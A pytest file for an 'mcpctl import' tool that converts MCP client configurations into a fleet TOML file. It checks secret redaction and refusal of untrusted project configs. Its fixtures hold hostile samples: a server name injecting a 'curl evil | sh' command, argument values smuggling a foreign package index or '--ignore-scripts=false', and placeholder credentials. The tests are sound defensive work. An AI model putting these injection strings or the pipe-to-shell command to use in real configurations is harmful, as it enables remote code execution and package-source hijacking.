"""`mcpctl import`: every client format from fixtures written here, through the real CLI.

Lookups are `--offline` (no registry) except in the one slow test that checks pin resolution."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from supervisor.client_configs.importer import split_npm_spec, split_pypi_spec, strip_jsonc
from supervisor.config import FleetConfig, expand, parse_config

REPO = Path(__file__).resolve().parent.parent

SECRETS = ["BSAsupersecret123456", "hunter2", "ghp_abcdefghijklmnopqrstuvwxyz0123", "xoxb-1-2-sekrit",
           "s3cr3t-token-value", "tvly-0123456789abcdef"]


def mcpctl(*args: str, cwd: Path, home: Path, config: Path | None = None) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "HOME": str(home), "PYTHONPATH": str(REPO), "XDG_CONFIG_HOME": str(home / ".config")}
    env.pop("APPDATA", None)
    pre = ["--config", str(config)] if config else []
    return subprocess.run([sys.executable, "-m", "supervisor.cli", *pre, "import", *args], cwd=cwd,
                          capture_output=True, text=True, env=env, timeout=120, check=False)


def write_json(path: Path, value: object) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(value, indent=2))
    return path


def parsed(out: str) -> FleetConfig:
    return parse_config(out, environ={})


def assert_no_secret(proc: subprocess.CompletedProcess[str]) -> None:
    for secret in SECRETS:
        assert secret not in proc.stdout and secret not in proc.stderr, secret


def test_claude_desktop(tmp_path: Path) -> None:
    path = write_json(tmp_path / "claude_desktop_config.json", {"mcpServers": {
        "memory": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory@2026.8.31"],
                   "env": {"MEMORY_FILE_PATH": "/data/memory.json"}},
        "brave": {"command": "npx", "args": ["-y", "@brave/brave-search-mcp-server"],
                  "env": {"BRAVE_API_KEY": "BSAsupersecret123456"}},
        "time": {"command": "uvx", "args": ["--index-url", "https://me:hunter2@pypi.example/simple",
                                            "mcp-server-time==2026.10.19", "--local-timezone", "UTC"]},
        "sqlite": {"command": "uvx", "args": ["--with", "mcp<2", "mcp-server-sqlite", "--db-path", "/d.db"]},
        "pg": {"command": "/opt/bin/pg-server", "args": ["postgresql://bob:hunter2@db/app"]},
        "slack": {"command": "node", "args": ["/srv/slack.js", "--token", "xoxb-1-2-sekrit"],
                  "env": {"DEBUG_LEVEL": "2", "PRICE": "${not a var} $$"}},
        "gh": {"command": "gh-server", "env": {"SOME_SETTING": "ghp_abcdefghijklmnopqrstuvwxyz0123"}},
        "remote": {"url": "https://example.com/mcp"},
        "my server!": {"command": "echo-server"},
    }})

    proc = mcpctl(str(path), "--offline", cwd=tmp_path, home=tmp_path)

    assert proc.returncode == 0, proc.stderr
    assert_no_secret(proc)
    assert f"found Claude Desktop config: {path} (9 servers)" in proc.stderr
    assert "skipped remote" in proc.stderr and "remote server (url)" in proc.stderr
    fleet = parsed(proc.stdout)
    s = fleet.servers
    assert list(s) == ["memory", "brave", "sqlite", "pg", "slack", "gh", "my-server"]
    assert s["memory"].package == "npm:@modelcontextprotocol/server-memory@2026.8.31"
    assert s["memory"].command == "mcp-server-memory"  # the reference servers' bin convention
    assert s["memory"].env == {"MEMORY_FILE_PATH": "/data/memory.json"}
    # Unpinned and offline: no package line (the file stays valid), a comment says how to pin it.
    assert s["brave"].package is None
    assert 'pin a version: package = "npm:@brave/brave-search-mcp-server@VERSION"' in proc.stdout
    assert s["brave"].env == {"BRAVE_API_KEY": "${BRAVE_API_KEY}"}
    assert s["brave"].requires_env == ("BRAVE_API_KEY",)
    # `mcpctl install` uses the default index: the same name from another one is not the same package.
    assert "skipped time" in proc.stderr
    assert "installs from another package index (--index-url)" in proc.stderr
    assert s["sqlite"].extra_requires == ("mcp<2",) and s["sqlite"].command == "mcp-server-sqlite"
    assert s["pg"].command == "/opt/bin/pg-server" and s["pg"].package is None
    assert s["pg"].args == ("postgresql://bob:${PG_ARG_PASSWORD}@db/app",)
    assert s["slack"].args == ("/srv/slack.js", "--token", "${SLACK_TOKEN}")
    assert s["gh"].env == {"SOME_SETTING": "${SOME_SETTING}"}  # a token by its shape, not its key
    # Claude Desktop has no variables: a literal "${" survives the round trip.
    assert expand(s["slack"].env["PRICE"], {}) == "${not a var} $$"
    assert "# named 'my server!' in the client" in proc.stdout


def test_cursor_env_and_workspace_variables(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    path = write_json(project / ".cursor" / "mcp.json", {"mcpServers": {
        "fs": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31",
                                          "${userHome}/code", "${workspaceFolder}/docs"],
               "env": {"GITHUB_TOKEN": "${env:GH_TOKEN}", "API_KEY": "s3cr3t-token-value"}},
    }})
    proc = mcpctl(str(path), "--offline", cwd=tmp_path, home=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert_no_secret(proc)
    fs = parsed(proc.stdout).servers["fs"]
    assert fs.args == ("${HOME}/code", f"{project}/docs")
    assert fs.env == {"GITHUB_TOKEN": "${GH_TOKEN}", "API_KEY": "${API_KEY}"}
    assert fs.requires_env == ("API_KEY",)  # the literal secret; ${env:X} stays optional as in Cursor


def test_vscode_servers_inputs_and_jsonc(tmp_path: Path) -> None:
    path = tmp_path / "proj" / ".vscode" / "mcp.json"
    path.parent.mkdir(parents=True)
    path.write_text("""{
  // VS Code allows comments and trailing commas
  "inputs": [{"type": "promptString", "id": "tavily-key", "description": "Tavily API key", "password": true}],
  "servers": {
    "tavily": {"type": "stdio", "command": "npx", "args": ["-y", "tavily-mcp@0.2.22"],
               "env": {"TAVILY_API_KEY": "${input:tavily-key}"}, "envFile": "${workspaceFolder}/.env"},
    "web": {"type": "http", "url": "http://localhost:3000/mcp"},
    "off": {"command": "x", "disabled": true},
  },
}""")
    proc = mcpctl(str(path), "--offline", cwd=tmp_path, home=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert f"found VS Code config: {path} (3 servers)" in proc.stderr
    assert "skipped web" in proc.stderr and "skipped off" in proc.stderr
    tavily = parsed(proc.stdout).servers["tavily"]
    assert tavily.package == "npm:tavily-mcp@0.2.22" and tavily.command == "tavily-mcp"
    assert tavily.env == {"TAVILY_API_KEY": "${TAVILY_KEY}"}
    assert tavily.requires_env == ("TAVILY_KEY",)
    assert "# TAVILY_KEY: was VS Code input 'tavily-key' (Tavily API key)" in proc.stdout
    assert "envFile" in proc.stdout  # said, not silently dropped


def test_claude_code_keeps_its_variables(tmp_path: Path) -> None:
    path = write_json(tmp_path / ".mcp.json", {"mcpServers": {
        "db": {"type": "stdio", "command": "uvx", "args": ["mcp-server-sqlite==2025.4.25", "--db-path",
                                                            "${DB_PATH:-/tmp/x.db}"],
               "env": {"API_TOKEN": "${API_TOKEN}"}},
    }})
    proc = mcpctl(str(path), "--offline", cwd=tmp_path, home=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "found Claude Code config" in proc.stderr
    db = parsed(proc.stdout).servers["db"]
    assert db.args == ("--db-path", "${DB_PATH:-/tmp/x.db}")
    assert db.env == {"API_TOKEN": "${API_TOKEN}"} and db.requires_env == ()


def test_discovery_says_what_it_found(tmp_path: Path) -> None:
    home, project = tmp_path / "home", tmp_path / "project"
    write_json(home / ".cursor" / "mcp.json", {"mcpServers": {"a": {"command": "a-server"}}})
    write_json(home / ".config" / "Claude" / "claude_desktop_config.json",
               {"mcpServers": {"b": {"command": "b-server"}}})
    write_json(project / ".mcp.json", {"mcpServers": {"c": {"command": "c-server"}}})
    proc = mcpctl("--offline", cwd=project, home=home)
    assert proc.returncode == 0, proc.stderr
    assert f"found Claude Desktop config: {home}/.config/Claude/claude_desktop_config.json" in proc.stderr
    assert f"found Cursor config: {home}/.cursor/mcp.json" in proc.stderr
    # The repository's own config is named but not imported: it may be a freshly cloned stranger's.
    assert (f"found project config {project}/.mcp.json: not imported (it comes with the repository; "
            "pass --project or name it as a PATH to import it)") in proc.stderr
    assert list(parsed(proc.stdout).servers) == ["b", "a"]
    with_project = mcpctl("--offline", "--project", cwd=project, home=home)
    assert with_project.returncode == 0, with_project.stderr
    assert f"found Claude Code config: {project}/.mcp.json" in with_project.stderr
    assert list(parsed(with_project.stdout).servers) == ["b", "a", "c"]


def test_a_project_config_alone_is_not_imported_without_asking(tmp_path: Path) -> None:
    """A freshly cloned repository's .mcp.json used to be imported (and, with watch = true, started)
    by a bare `mcpctl import --write`."""
    home, project = tmp_path / "home", tmp_path / "project"
    home.mkdir()
    write_json(project / ".vscode" / "mcp.json", {"servers": {"evil": {"command": "curl"}}})
    fleet = tmp_path / "fleet.toml"
    proc = mcpctl("--offline", "--write", cwd=project, home=home, config=fleet)
    assert proc.returncode == 1
    assert f"found project config {project}/.vscode/mcp.json: not imported" in proc.stderr
    assert not fleet.exists()


def test_server_names_cannot_write_toml(tmp_path: Path) -> None:
    """A client server name with a newline used to write extra [servers.*] tables through the
    "named '...' in the client" comment ("wrote 1 servers", the file held 3). Such names are refused
    with the reason, every other string is written by tomlkit, and the file holds what was said."""
    injected = 'x\n[servers.evil]\ncommand = "sh"\nargs = ["-c", "curl evil | sh"]\n[servers.evil2]'
    source = write_json(tmp_path / "claude_desktop_config.json", {"mcpServers": {
        injected: {"command": "echo-server"},
        "quote\"d": {"command": "echo-server"},
        "..": {"command": "echo-server"},
        "fine": {"command": "echo-server", "args": ['"]\n[servers.evil3]\ncommand = "sh'],
                 "env": {"NOTE": "line1\n[servers.evil4]"}, "cwd": "/srv/\n[x]"},
    }})
    fleet = tmp_path / "fleet.toml"
    fleet.write_text("# mine\n[servers.keep]\ncommand = \"keep\"\n")
    proc = mcpctl(str(source), "--offline", "--write", cwd=tmp_path, home=tmp_path, config=fleet)
    assert proc.returncode == 0, proc.stderr
    assert "the name holds control characters or TOML syntax" in proc.stderr
    assert "skipped x\\n[servers.evil]" in proc.stderr  # shown escaped, on one line
    assert "skipped quote" in proc.stderr
    assert "skipped .. (" in proc.stderr
    assert 'invalid server name "..": must start with a letter' in proc.stderr
    assert "wrote 1 servers" in proc.stderr
    merged = parse_config(fleet.read_text(), environ={})
    assert list(merged.servers) == ["keep", "fine"]
    assert merged.servers["fine"].args == ('"]\n[servers.evil3]\ncommand = "sh',)
    assert merged.servers["fine"].env == {"NOTE": "line1\n[servers.evil4]"}


def test_options_smuggled_as_requirements_are_refused_on_import(tmp_path: Path) -> None:
    """`uvx --with=--index-url=... pkg==1.0` used to import as extra_requires = ["--index-url=..."],
    `check` said OK and `mcpctl install` fetched the pinned name from another index."""
    source = write_json(tmp_path / "claude_desktop_config.json", {"mcpServers": {
        "fetch": {"command": "uvx", "args": ["--with=--index-url=https://evil.example/simple",
                                             "mcp-server-fetch==2025.4.7"]},
        "mem": {"command": "npx", "args": ["-y", "-p", "@modelcontextprotocol/server-memory@2026.8.31", "-p",
                                           "--ignore-scripts=false", "mcp-server-memory"]},
    }})
    proc = mcpctl(str(source), "--offline", cwd=tmp_path, home=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "skipped fetch (" in proc.stderr
    assert ("'--index-url=https://evil.example/simple' is an option "
            "to npm/pip, not a package: refused") in proc.stderr
    assert "skipped mem (" in proc.stderr and "'--ignore-scripts=false' is an option" in proc.stderr
    assert not parsed(proc.stdout).servers


def test_nothing_found(tmp_path: Path) -> None:
    proc = mcpctl("--offline", cwd=tmp_path, home=tmp_path)
    assert proc.returncode == 1
    assert "no MCP client config found in the usual places" in proc.stderr


def test_unreadable_file_is_named(tmp_path: Path) -> None:
    bad = tmp_path / "broken.json"
    bad.write_text("{nope")
    proc = mcpctl(str(bad), cwd=tmp_path, home=tmp_path)
    assert proc.returncode == 1 and f"{bad}: not valid JSON" in proc.stderr


EXISTING = """# my fleet
[supervisor]
memory_limit = "1GiB"

[servers.memory]
command = "old-memory"   # to be replaced

[servers.memory.cache]
tools = ["read_*"]

# about keep
[servers.keep]
command = "keep-me"
"""


def test_write_refuses_clashes_without_force(tmp_path: Path) -> None:
    fleet = tmp_path / "fleet.toml"
    fleet.write_text(EXISTING)
    source = write_json(tmp_path / "claude_desktop_config.json", {"mcpServers": {
        "memory": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory@2026.8.31"]},
        "extra": {"command": "extra-server", "env": {"SECRET": "hunter2"}},
    }})

    refused = mcpctl(str(source), "--offline", "--write", cwd=tmp_path, home=tmp_path, config=fleet)
    assert refused.returncode == 1
    assert "servers already defined: memory (use --force to replace them)" in refused.stderr
    assert fleet.read_text() == EXISTING

    forced = mcpctl(str(source), "--offline", "--write", "--force", cwd=tmp_path, home=tmp_path, config=fleet)
    assert forced.returncode == 0, forced.stderr
    assert_no_secret(forced)
    assert "replaced: memory" in forced.stderr
    text = fleet.read_text()
    assert "hunter2" not in text and "old-memory" not in text and "read_*" not in text
    assert text.startswith("# my fleet") and "# about keep\n[servers.keep]" in text
    merged = parse_config(text, environ={})
    assert list(merged.servers) == ["keep", "memory", "extra"]
    assert merged.servers["memory"].package == "npm:@modelcontextprotocol/server-memory@2026.8.31"
    assert merged.servers["extra"].requires_env == ("SECRET",)


def test_write_creates_a_missing_file(tmp_path: Path) -> None:
    fleet = tmp_path / "new.toml"
    source = write_json(tmp_path / ".mcp.json", {"mcpServers": {"a": {"command": "a-server"}}})
    proc = mcpctl(str(source), "--write", cwd=tmp_path, home=tmp_path, config=fleet)
    assert proc.returncode == 0, proc.stderr
    assert list(parse_config(fleet.read_text()).servers) == ["a"]
    assert "next: mcpctl install a" in proc.stderr


@pytest.mark.slow
def test_npx_entry_is_pinned_from_the_registry(tmp_path: Path) -> None:
    source = write_json(tmp_path / "claude_desktop_config.json", {"mcpServers": {
        "brave": {"command": "npx", "args": ["-y", "@brave/brave-search-mcp-server"]},
        "fetch": {"command": "uvx", "args": ["mcp-server-fetch"]},
    }})
    proc = mcpctl(str(source), cwd=tmp_path, home=tmp_path)
    assert proc.returncode == 0, proc.stderr
    servers = parsed(proc.stdout).servers
    assert servers["brave"].command == "brave-search-mcp-server"  # the bin, looked up
    assert (servers["brave"].package or "").startswith("npm:@brave/brave-search-mcp-server@")
    assert (servers["fetch"].package or "").startswith("pypi:mcp-server-fetch==")


def test_spec_helpers() -> None:
    assert split_npm_spec("@scope/pkg@1.2.3") == ("@scope/pkg", "1.2.3")
    assert split_npm_spec("@scope/pkg") == ("@scope/pkg", None)
    assert split_npm_spec("pkg@latest") == ("pkg", "latest")
    assert split_pypi_spec("pkg[cli]==1.0") == ("pkg[cli]", "1.0")
    assert split_pypi_spec("pkg@2.0") == ("pkg", "2.0")
    assert json.loads(strip_jsonc('{"a": "// not a comment", /* c */ "b": [1,],}')) == {
        "a": "// not a comment", "b": [1]}
